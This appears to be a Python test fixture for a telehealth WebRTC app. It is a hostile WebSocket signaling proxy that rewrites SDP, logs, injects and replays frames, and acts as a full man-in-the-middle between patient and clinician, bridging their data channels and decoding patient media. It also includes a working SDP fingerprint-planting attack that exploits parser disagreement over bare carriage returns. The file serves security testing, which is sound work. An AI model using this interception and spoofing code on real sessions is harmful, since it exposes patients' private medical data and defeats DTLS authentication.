"""A hostile signaling server for tests: a WebSocket proxy in front of the real one.

Point a node's join URL at `proxy.base` instead of the real server. The proxy can
  - rewrite any JSON signaling message (e.g. the SDP of offers/answers) with `rewrite`,
  - log every relayed binary frame (`relay_log`) and inject frames (`inject`), e.g. replays,
  - with `mitm=True`, terminate WebRTC itself: it answers the patient's offer with its own
    aiortc peer connection and offers another one of its own to the clinician, bridging their
    DataChannels; media it receives is decoded and counted (`media_frames`).
Everything else passes through unchanged.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import aiohttp
from aiohttp import web
from aiortc import RTCPeerConnection, RTCSessionDescription
from aiortc.mediastreams import MediaStreamError

Rewrite = Callable[[str, dict[str, Any]], dict[str, Any] | None]  # (src endpoint, msg)


@dataclass
class Client:
    ws: web.WebSocketResponse
    endpoint_id: str = ""
    role: str = ""


@dataclass
class HostileProxy:
    upstream: str  # the real server's ws:// URL
    rewrite: Rewrite | None = None
    mitm: bool = False
    # with mitm: hide the attacker's fingerprint behind a lone CR in the first media section
    # and show the honest peer's in the others (the reported parser-confusion attack)
    plant: bool = False
    base: str = ""
    clients: dict[str, Client] = field(default_factory=dict)
    relay_log: list[tuple[str, bytes]] = field(default_factory=list)  # (src endpoint, data)
    drop: Callable[[str, bytes], bool] | None = None  # (src endpoint, frame) -> drop it
    media_frames: int = 0  # media frames the MITM decoded
    tracks: int = 0
    dc_messages: int = 0  # DataChannel messages the MITM bridged
    _runner: web.AppRunner | None = None
    _pcs: list[RTCPeerConnection] = field(default_factory=list)
    _tasks: set[asyncio.Task[Any]] = field(default_factory=set)
    _to_clinician: RTCPeerConnection | None = None
    _clinician_answer: asyncio.Future[str] | None = None

    async def start(self) -> str:
        app = web.Application()
        app.router.add_get("/ws", self._handle)
        self._runner = web.AppRunner(app)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.base = f"http://127.0.0.1:{self._runner.addresses[0][1]}"
        return self.base

    async def close(self) -> None:
        for pc in self._pcs:
            await pc.close()
        for task in list(self._tasks):
            task.cancel()
        if self._runner is not None:
            await self._runner.cleanup()

    def join_url(self, token: str) -> str:
        return f"{self.base}/join#token={token}"

    async def inject(self, dst: str, data: bytes) -> None:
        """Send a binary (relay) message to the client with endpoint id `dst`."""
        await self.clients[dst].ws.send_bytes(data)

    def _spawn(self, coro: Any) -> None:
        task = asyncio.ensure_future(coro)
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _handle(self, request: web.Request) -> web.WebSocketResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        client = Client(ws)
        async with aiohttp.ClientSession() as http, http.ws_connect(self.upstream) as up:
            down = asyncio.ensure_future(self._down(client, up))
            async for msg in ws:
                if msg.type == aiohttp.WSMsgType.TEXT:
                    data = json.loads(msg.data)
                    if await self._intercept_up(client, data):
                        continue
                    if self.rewrite is not None:
                        data = self.rewrite(client.endpoint_id, data)
                        if data is None:
                            continue
                    await up.send_str(json.dumps(data))
                elif msg.type == aiohttp.WSMsgType.BINARY:
                    self.relay_log.append((client.endpoint_id, msg.data))
                    frame = msg.data[1 + msg.data[0] :]
                    if self.drop is None or not self.drop(client.endpoint_id, frame):
                        await up.send_bytes(msg.data)
            down.cancel()
        return ws

    async def _down(self, client: Client, up: aiohttp.ClientWebSocketResponse) -> None:
        async for msg in up:
            if msg.type == aiohttp.WSMsgType.TEXT:
                data = json.loads(msg.data)
                if data.get("type") == "joined":
                    client.endpoint_id = str(data.get("endpoint_id", ""))
                    client.role = str(data.get("role", ""))
                    self.clients[client.endpoint_id] = client
                if self.rewrite is not None and data.get("type") in ("offer", "answer"):
                    data = self.rewrite(str(data.get("from", "")), data)
                    if data is None:
                        continue
                await client.ws.send_str(json.dumps(data))
            elif msg.type == aiohttp.WSMsgType.BINARY:
                await client.ws.send_bytes(msg.data)

    # ---- man in the middle of WebRTC ----
    async def _intercept_up(self, client: Client, data: dict[str, Any]) -> bool:
        if not self.mitm or data.get("type") not in ("offer", "answer", "candidate"):
            return False
        if data["type"] == "offer" and client.role == "patient":
            self._spawn(self._mitm_offer(client, str(data["to"]), str(data["sdp"])))
        elif data["type"] == "answer" and self._to_clinician is not None:
            pc = self._to_clinician
            await pc.setRemoteDescription(RTCSessionDescription(str(data["sdp"]), "answer"))
            if self._clinician_answer is not None and not self._clinician_answer.done():
                self._clinician_answer.set_result(str(data["sdp"]))
        return True  # nothing of the real negotiation reaches the other side

    async def _mitm_offer(self, patient: Client, clinician_id: str, sdp: str) -> None:
        to_patient = RTCPeerConnection()
        to_clinician = RTCPeerConnection()
        self._pcs += [to_patient, to_clinician]
        self._to_clinician = to_clinician
        for kind in ("video", "audio"):
            to_clinician.addTransceiver(kind, direction="sendonly")
        a = [to_patient.createDataChannel(n, negotiated=True, id=i) for i, n in _CHANNELS]
        b = [to_clinician.createDataChannel(n, negotiated=True, id=i) for i, n in _CHANNELS]
        for x, y in zip(a, b, strict=True):
            x.on("message", self._bridge(y))
            y.on("message", self._bridge(x))
        to_patient.on("track", lambda track: self._spawn(self._drain(track)))
        await to_patient.setRemoteDescription(RTCSessionDescription(sdp, "offer"))
        await to_patient.setLocalDescription(await to_patient.createAnswer())
        await to_clinician.setLocalDescription(await to_clinician.createOffer())
        self._clinician_answer = asyncio.get_running_loop().create_future()
        clinician = self.clients.get(clinician_id)
        if clinician is not None:
            offer = to_clinician.localDescription.sdp
            if self.plant:
                offer = plant(offer, _sha256_of(sdp))
            msg = {"type": "offer", "from": patient.endpoint_id, "sdp": offer}
            await clinician.ws.send_str(json.dumps(msg))
        answer = to_patient.localDescription.sdp
        if self.plant:  # the clinician's real fingerprint, once its answer came (if it does)
            honest = ":".join(["C0"] * 32)
            with contextlib.suppress(TimeoutError):
                honest = _sha256_of(await asyncio.wait_for(self._clinician_answer, 2.0))
            answer = plant(answer, honest)
        await patient.ws.send_str(
            json.dumps({"type": "answer", "from": clinician_id, "sdp": answer})
        )

    def _bridge(self, dst: Any) -> Callable[[Any], None]:
        def forward(message: Any) -> None:
            self.dc_messages += 1
            if dst.readyState == "open":
                dst.send(message)

        return forward

    async def _drain(self, track: Any) -> None:
        self.tracks += 1
        with contextlib.suppress(MediaStreamError, asyncio.CancelledError):
            while True:
                await track.recv()
                self.media_frames += 1


_CHANNELS = ((0, "control"), (1, "vitals"), (2, "bulk"))
_FP = "a=fingerprint:sha-256 "


def _sha256_of(sdp: str) -> str:
    line = next(x for x in sdp.splitlines() if x.startswith(_FP))
    return line[len(_FP) :].strip()


def plant(sdp: str, honest: str) -> str:
    """The attack of issue #10.1: aiortc (splitlines, first bundled section) reads the
    attacker's fingerprint; a regex over `\n`-split lines (first match) reads `honest`."""
    lines = sdp.split("\r\n")
    out: list[str] = []
    section = -1
    for line in lines:
        if line.startswith("m="):
            section += 1
        if line.startswith(_FP):
            if section == 0:
                out[-1] += "\r" + line  # joined to the previous line by a bare CR
                continue
            line = _FP + honest
        out.append(line)
    return "\r\n".join(out)
